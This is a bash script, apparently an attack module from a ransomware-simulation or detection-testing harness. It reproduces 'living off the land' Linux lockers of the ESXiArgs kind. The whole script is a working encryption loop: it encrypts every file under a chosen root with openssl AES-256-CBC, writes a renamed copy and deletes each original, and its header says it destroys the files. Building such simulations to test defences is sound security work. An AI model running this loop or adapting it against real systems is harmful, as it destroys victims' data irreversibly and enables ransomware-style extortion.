#!/bin/bash
# openssl-loop.sh ROOT LOG: the "living off the land" attack: a shell loop that runs
# `openssl enc -aes-256-cbc -pbkdf2` on each file, writes FILE.EXT and removes FILE, as in
# the many script-only Linux lockers seen on compromised hosts (e.g. the ESXiArgs encrypt.sh
# wrapper style, and hand-run intrusions reported by DFIR firms). Nothing ransomware-specific
# is executed: only a stock openssl binary. See lib/attack-common.sh for EXT/PASS/LIMIT/DELAY_MS and the
# log/JSON formats. DESTROYS the files under ROOT.
set -uo pipefail
. "$(dirname "$0")/../lib/attack-common.sh"
attack_init openssl-loop "${1:-}" "${2:-}"
while IFS= read -r -d '' f; do
	attack_more || break
	attack_log "$f"
	if openssl enc -aes-256-cbc -pbkdf2 -salt -pass "pass:$pass" -in "$f" -out "$f.$ext"; then
		rm -f -- "$f"
	else
		errors=$((errors + 1))
	fi
	attack_pause
done < <(attack_files)
